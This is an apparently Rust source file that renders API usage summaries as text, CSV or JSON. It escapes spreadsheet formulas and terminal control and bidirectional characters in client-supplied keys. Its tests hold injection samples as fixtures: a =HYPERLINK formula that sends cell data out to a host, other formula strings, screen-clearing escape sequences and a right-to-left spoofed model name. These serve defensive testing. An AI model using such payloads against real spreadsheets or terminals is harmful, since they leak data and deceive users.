//! The summary as an aligned text table, CSV or JSON. Every format ends with the totals.

use serde_json::{json, Value};

use crate::aggregate::{Summary, Totals};

/// Output format of the table.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Format {
    /// Aligned columns for a terminal.
    Text,
    /// Comma-separated values with a header line.
    Csv,
    /// One JSON document: period, rows and totals.
    Json,
}

/// Label of the totals row in the text and CSV formats.
pub const TOTAL: &str = "TOTAL";

const COLUMNS: [&str; 12] = [
    "requests",
    "refused",
    "input",
    "output",
    "cache_write",
    "cache_read",
    "tokens",
    "cost_usd",
    "unpriced",
    "avg_latency_ms",
    "avg_ttft_ms",
    "web_searches",
];

fn opt(v: Option<u64>) -> String {
    v.map_or_else(|| "-".to_owned(), |v| v.to_string())
}

fn cells(t: &Totals) -> Vec<String> {
    vec![
        t.requests.to_string(),
        t.refused.to_string(),
        t.tokens.input.to_string(),
        t.tokens.output.to_string(),
        t.tokens.cache_write.to_string(),
        t.tokens.cache_read.to_string(),
        t.tokens.total().to_string(),
        format!("{:.6}", t.cost_usd()),
        t.unpriced.to_string(),
        opt(t.avg_latency_ms()),
        opt(t.avg_ttft_ms()),
        t.web_searches.to_string(),
    ]
}

fn header(s: &Summary) -> Vec<String> {
    let keys =
        if s.dims.is_empty() { vec!["group".to_owned()] } else { s.dims.iter().map(|d| d.name().to_owned()).collect() };
    keys.into_iter().chain(COLUMNS.iter().map(|c| (*c).to_owned())).collect()
}

fn body(s: &Summary) -> Vec<Vec<String>> {
    let width = s.dims.len().max(1);
    let mut lines: Vec<Vec<String>> = s
        .rows
        .iter()
        .map(|r| {
            let keys = if r.keys.is_empty() { vec!["all".to_owned()] } else { r.keys.clone() };
            keys.into_iter().chain(cells(&r.totals)).collect()
        })
        .collect();
    let mut total = vec![String::new(); width];
    total[0] = TOTAL.to_owned();
    lines.push(total.into_iter().chain(cells(&s.total)).collect());
    lines
}

/// An aligned text table: keys left-aligned, numbers right-aligned, a rule above the totals.
pub fn text(s: &Summary, period: &str) -> String {
    let head = header(s);
    let keys = s.dims.len().max(1);
    let mut rows = body(s);
    for row in &mut rows {
        for cell in row.iter_mut().take(keys) {
            *cell = printable(cell);
        }
    }
    let mut widths: Vec<usize> = head.iter().map(|h| h.chars().count()).collect();
    for row in &rows {
        for (w, cell) in widths.iter_mut().zip(row) {
            *w = (*w).max(cell.chars().count());
        }
    }
    let line = |cells: &[String]| -> String {
        let parts: Vec<String> = cells
            .iter()
            .zip(&widths)
            .enumerate()
            .map(|(i, (c, w))| if i < keys { format!("{c:<w$}") } else { format!("{c:>w$}") })
            .collect();
        parts.join("  ").trim_end().to_owned()
    };
    let rule = "-".repeat(widths.iter().sum::<usize>() + 2 * widths.len().saturating_sub(1));
    let mut out = format!("Usage {period}\n\n{}\n{rule}\n", line(&head));
    let (last, rest) = rows.split_last().map_or((None, &rows[..]), |(l, r)| (Some(l), r));
    for row in rest {
        out += &line(row);
        out.push('\n');
    }
    out += &rule;
    out.push('\n');
    if let Some(last) = last {
        out += &line(last);
        out.push('\n');
    }
    out
}

/// One CSV field. A key that a spreadsheet would take for a formula (`=`, `+`, `-`, `@`, a tab
/// or a carriage return, then more) gets a leading `'`, so it is shown as text and never run:
/// the model is what a client asked for, and a refused request's record keeps it. A lone `-`
/// (the report's "none", as for requests not refused) is no formula and stays as it is.
fn csv_cell(c: &str, key: bool) -> String {
    let formula = c.starts_with(['=', '+', '-', '@', '\t', '\r']) && c.len() > 1;
    let c = if key && formula { format!("'{c}") } else { c.to_owned() };
    if c.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", c.replace('"', "\"\""))
    } else {
        c
    }
}

/// A key as the text table shows it: control characters (a terminal's escape sequences, line
/// breaks) and the invisible ones that reorder or hide text (bidirectional overrides and
/// isolates, zero-width characters, the byte order mark) written as `\u{..}` escapes, so a key
/// sent by a client cannot move the cursor, clear the screen, break the table's lines or show
/// another name than it has.
fn printable(key: &str) -> String {
    let hidden = |c: char| {
        c.is_control()
            || matches!(c, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{206F}' | '\u{FEFF}')
    };
    if !key.chars().any(hidden) {
        return key.to_owned();
    }
    key.chars().map(|c| if hidden(c) { c.escape_unicode().to_string() } else { c.to_string() }).collect()
}

/// CSV with a header; the last line is the totals (`TOTAL` in the first column).
pub fn csv(s: &Summary) -> String {
    let keys = s.dims.len().max(1);
    std::iter::once(header(s))
        .chain(body(s))
        .map(|row| row.iter().enumerate().map(|(i, c)| csv_cell(c, i < keys)).collect::<Vec<_>>().join(",") + "\n")
        .collect()
}

fn totals_json(t: &Totals) -> Value {
    json!({
        "requests": t.requests,
        "refused": t.refused,
        "input_tokens": t.tokens.input,
        "output_tokens": t.tokens.output,
        "cache_write_tokens": t.tokens.cache_write,
        "cache_read_tokens": t.tokens.cache_read,
        "tokens": t.tokens.total(),
        "cost_usd": t.cost_usd(),
        "unpriced_requests": t.unpriced,
        "avg_latency_ms": t.avg_latency_ms(),
        "avg_ttft_ms": t.avg_ttft_ms(),
        "web_searches": t.web_searches,
    })
}

/// `{"since","until","by","rows":[{<dim>:..., <sums>}],"total":{<sums>}}`.
pub fn json(s: &Summary, since: Option<String>, until: Option<String>) -> String {
    let rows: Vec<Value> = s
        .rows
        .iter()
        .map(|r| {
            let mut v = totals_json(&r.totals);
            if let Value::Object(map) = &mut v {
                for (d, k) in s.dims.iter().zip(&r.keys) {
                    map.insert(d.name().to_owned(), Value::String(k.clone()));
                }
            }
            v
        })
        .collect();
    let by: Vec<&str> = s.dims.iter().map(|d| d.name()).collect();
    let doc = json!({"since": since, "until": until, "by": by, "rows": rows, "total": totals_json(&s.total)});
    format!("{doc:#}\n")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::aggregate::{summarize, Dim};
    use crate::record::parse_line;

    fn summary() -> Summary {
        let lines = [
            r#"{"time":"2026-11-29T10:00:00Z","sub":"alice","model":"claude-sonnet-4-6","input_tokens":10,"output_tokens":20,"cost_usd":0.5,"latency_ms":1000,"web_search_requests":3}"#,
            r#"{"time":"2026-11-29T10:00:00Z","sub":"bob, \"the builder\"","model":"m","input_tokens":1,"cost_usd":0.25}"#,
        ];
        let records: Vec<_> = lines.iter().map(|l| parse_line(l).unwrap()).collect();
        summarize(&records, &[Dim::Person])
    }

    #[test]
    fn text_table_is_aligned_with_totals_last() {
        let out = text(&summary(), "all time");
        let lines: Vec<&str> = out.lines().collect();
        assert_eq!(lines[0], "Usage all time");
        assert!(lines[2].starts_with("person "), "{out}");
        assert!(lines.last().unwrap().starts_with("TOTAL "), "{out}");
        assert!(lines.last().unwrap().contains("0.750000"), "{out}");
        // Right-aligned numbers: every data line has the same length up to the cost column.
        let cost_end = |l: &str| l.find("0.").map(|i| i + 8);
        let ends: Vec<_> = lines[4..].iter().filter(|l| !l.starts_with('-')).map(|l| cost_end(l)).collect();
        assert!(ends.windows(2).all(|w| w[0] == w[1]), "{out}");
    }

    #[test]
    fn csv_quotes_and_ends_with_totals() {
        let out = csv(&summary());
        let lines: Vec<&str> = out.lines().collect();
        assert_eq!(lines[0], "person,requests,refused,input,output,cache_write,cache_read,tokens,cost_usd,unpriced,avg_latency_ms,avg_ttft_ms,web_searches");
        assert_eq!(lines[1], "alice,1,0,10,20,0,0,30,0.500000,0,1000,-,3");
        assert_eq!(lines[2], "\"bob, \"\"the builder\"\"\",1,0,1,0,0,0,1,0.250000,0,-,-,0");
        assert_eq!(lines[3], "TOTAL,2,0,11,20,0,0,31,0.750000,0,1000,-,3");
    }

    /// A model is what a client asked for (a refused request's record keeps it): in a CSV
    /// opened in a spreadsheet it must not run as a formula, and in a terminal it must not act
    /// as an escape sequence.
    #[test]
    fn keys_a_client_chose_are_inert_in_csv_and_in_the_terminal() {
        let lines = [
            r#"{"time":"2026-11-29T10:00:00Z","sub":"a","model":"=HYPERLINK(\"http://x/?\"&A1,\"open\")","input_tokens":1}"#,
            r#"{"time":"2026-11-29T10:00:00Z","sub":"a","model":"@SUM(1+1)","input_tokens":1}"#,
            r#"{"time":"2026-11-29T10:00:00Z","sub":"a","model":"-2+3","input_tokens":1}"#,
            r#"{"time":"2026-11-29T10:00:00Z","sub":"a","model":"\u001b[2J\u001b[31mred\nline","input_tokens":1}"#,
            r#"{"time":"2026-11-29T10:00:00Z","sub":"a","model":"claude-sonnet-4-6","input_tokens":1}"#,
        ];
        let records: Vec<_> = lines.iter().map(|l| parse_line(l).unwrap()).collect();
        let summary = summarize(&records, &[Dim::Model]);
        let out = csv(&summary);
        let firsts: Vec<String> = out.lines().skip(1).map(|l| l.split(',').next().unwrap().to_owned()).collect();
        for first in &firsts {
            let cell = first.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '-', '@']), "{first} in\n{out}");
        }
        assert!(out.contains("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"open\"\")\""), "{out}");
        assert!(out.contains("\n'@SUM(1+1),"), "{out}");
        assert!(out.contains("\n'-2+3,"), "{out}");
        assert!(out.contains("\nclaude-sonnet-4-6,"), "{out}");
        // Requests not refused are keyed `-`: the report's own "none", not a formula.
        let by_refusal = csv(&summarize(&records, &[Dim::Refusal]));
        assert!(by_refusal.contains("\n-,5,"), "{by_refusal}");
        let table = text(&summary, "all time");
        assert!(!table.contains('\u{1b}'), "{table}");
        assert!(table.contains("\\u{1b}[2J\\u{1b}[31mred\\u{a}line"), "{table}");
        assert_eq!(table.lines().count(), 4 + 5 + 2, "one line per row: {table}");
        // A right-to-left override would show `claude-6-4-BEFA`'s letters reversed.
        let spoof =
            r#"{"time":"2026-11-29T10:00:00Z","sub":"a","model":"claude-\u202eAFEB-4-6\u200b","input_tokens":1}"#;
        let table = text(&summarize(&[parse_line(spoof).unwrap()], &[Dim::Model]), "all time");
        assert!(table.contains("claude-\\u{202e}AFEB-4-6\\u{200b}"), "{table}");
    }

    #[test]
    fn json_has_rows_and_total() {
        let v: Value = serde_json::from_str(&json(&summary(), Some("a".into()), None)).unwrap();
        assert_eq!(v["by"], json!(["person"]));
        assert_eq!(v["rows"][0]["person"], "alice");
        assert_eq!(v["total"]["tokens"], 31);
        assert_eq!(v["total"]["cost_usd"], 0.75);
        assert_eq!(v["until"], Value::Null);
    }
}
